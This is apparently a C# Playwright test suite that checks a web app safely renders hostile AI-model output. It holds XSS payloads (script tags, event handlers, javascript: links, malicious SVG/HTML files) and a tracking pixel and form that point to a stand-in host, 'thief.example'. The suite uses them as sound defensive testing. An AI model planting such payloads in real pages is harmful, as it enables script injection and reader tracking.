using System.Collections.Concurrent;
using Microsoft.Playwright;
using PersonalQ.Tests.Support;
using PersonalQ.Tests.Support.Fakes;
using static Microsoft.Playwright.Assertions;

namespace PersonalQ.Tests.Browser;

/// <summary>What a model writes can be anything; nothing of it may run, and nothing may tell others who reads it.</summary>
public sealed class HostileOutputTests : SteeredApp
{
    private const string Attack = """
        # Read me

        <script>document.title = 'owned'</script>
        <img src="x" onerror="document.title='owned'">
        <iframe src="javascript:parent.document.title='owned'"></iframe>
        <svg onload="document.title='owned'"><script>document.title='owned'</script></svg>
        <form action="https://thief.example"><input name="q"><button>Send</button></form>

        [press](javascript:document.title='owned')
        [this](vbscript:owned) [that](data:text/html,<script>document.title='owned'</script>)
        <a href="https://thief.example" onclick="document.title='owned'">here</a>

        ![a pixel](https://thief.example/pixel.png?who=you)
        ![an svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

        [a link](https://example.com/page)

        The end.
        """;

    private readonly ConcurrentQueue<string> outside = [];

    private async Task<IPage> OpenWatchedAsync(string path)
    {
        var page = await OpenAsync("/nowhere");
        page.Request += (_, request) =>
        {
            if (!request.Url.StartsWith(Address.ToString(), StringComparison.Ordinal) && !request.Url.StartsWith("data:", StringComparison.Ordinal)) outside.Enqueue(request.Url);
        };
        await page.GotoAsync(path);
        return page;
    }

    private static async Task AssertTamedAsync(ILocator where)
    {
        await Expect(where).ToContainTextAsync("The end.");
        await Expect(where.Locator("script, iframe, img, form, input, object, embed, style")).ToHaveCountAsync(0);
        await Expect(where.Locator("[onerror], [onload], [onclick]")).ToHaveCountAsync(0);
        await Expect(where.Locator("a[href^='javascript'], a[href^='vbscript'], a[href^='data']")).ToHaveCountAsync(0);
        await Expect(where.GetByRole(AriaRole.Link, new() { Name = "a link" })).ToHaveAttributeAsync("rel", "noopener noreferrer nofollow");
    }

    [Fact]
    public async Task Nothing_in_an_answer_runs_while_it_is_written_nor_after()
    {
        Model.Next(FakeAnswer.Say(Attack).InPieces(40).Hold(Attack.Length / 40));
        var id = await GiveTaskAsync("Attack");
        var page = await OpenWatchedAsync($"/tasks/{id}");
        var answer = page.GetByTestId("step-model").Last;
        await Expect(answer.GetByRole(AriaRole.Heading, new() { Name = "Read me" })).ToBeVisibleAsync();
        await Expect(answer.Locator("script, iframe, img, form")).ToHaveCountAsync(0);
        Model.ReleaseSilence();
        await Expect(page.GetByTestId("task-status").First).ToHaveTextAsync("Completed");
        await AssertTamedAsync(answer);
        await page.GetByRole(AriaRole.Tab, new() { Name = "Output" }).ClickAsync();
        await AssertTamedAsync(page.GetByTestId("task-output"));
        await Expect(page).ToHaveTitleAsync("Attack · Personal-Q");
        Assert.Empty(outside);
    }

    [Fact]
    public async Task A_picture_from_elsewhere_is_a_link_that_loads_nothing()
    {
        Model.Next(FakeAnswer.Say(Attack));
        var id = await GiveTaskAsync("Picture");
        await App.TaskWhenAsync(id, "completed");
        var page = await OpenWatchedAsync($"/tasks/{id}?tab=output");
        await Expect(page.GetByRole(AriaRole.Link, new() { Name = "Open picture “a pixel” from thief.example" })).ToHaveAttributeAsync("rel", "noopener noreferrer");
        Assert.Empty(outside);
    }

    [Fact]
    public async Task A_drawing_an_agent_made_is_a_picture_and_never_a_page()
    {
        const string Svg = """<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="document.title='owned'"><script>parent.document.title='owned'</script><rect width="20" height="20"/></svg>""";
        const string Html = "<script>document.title='owned'</script><h1>Owned</h1>";
        Model.Next(FakeAnswer.Call("write_file", new { path = "evil.svg", content = Svg }), FakeAnswer.Call("write_file", new { path = "evil.html", content = Html }), FakeAnswer.Say("Done."));
        var id = await GiveTaskAsync("Draw");
        await App.TaskWhenAsync(id, "completed");
        var page = await OpenWatchedAsync($"/tasks/{id}?tab=artifacts&file=evil.svg");
        await page.WaitForFunctionAsync("() => document.querySelector('img[alt=\"evil.svg\"]')?.naturalWidth === 20");
        await page.GetByRole(AriaRole.Button, new() { Name = "evil.html" }).ClickAsync();
        await Expect(page.GetByTestId("task-artifacts")).ToContainTextAsync("<h1>Owned</h1>");
        await Expect(page).ToHaveTitleAsync("Draw · Personal-Q");
        foreach (var file in new[] { "evil.svg", "evil.html" })
        {
            var answer = await App.Client.GetAsync($"/api/v1/tasks/{id}/artifacts/{file}");
            Assert.Contains("sandbox", Assert.Single(answer.Headers.GetValues("Content-Security-Policy")), StringComparison.Ordinal);
            Assert.Equal("attachment", answer.Content.Headers.ContentDisposition?.DispositionType);
        }
        Assert.Empty(outside);
    }

    [Fact]
    public async Task Names_and_results_of_tools_are_text()
    {
        const string Markup = "<img src=x onerror=\"document.title='owned'\"><b>bold</b>";
        Model.Next(FakeAnswer.Call("calculator", new { expression = Markup }), FakeAnswer.Say("No."));
        var id = await GiveTaskAsync(Markup, new { description = Markup });
        await App.TaskWhenAsync(id, "completed");
        var page = await OpenWatchedAsync($"/tasks/{id}");
        var call = page.GetByTestId("step-tool");
        await call.GetByRole(AriaRole.Button, new() { Name = "calculator", Exact = true }).ClickAsync();
        await Expect(call).ToContainTextAsync("onerror");
        await Expect(page.Locator("main img, main b")).ToHaveCountAsync(0);
        await page.GotoAsync("/activity");
        await Expect(page.GetByTestId("activity-entry").First).ToContainTextAsync("<b>bold</b>");
        await Expect(page.Locator("main img, main b")).ToHaveCountAsync(0);
        await Expect(page).ToHaveTitleAsync("Activity · Personal-Q");
    }
}
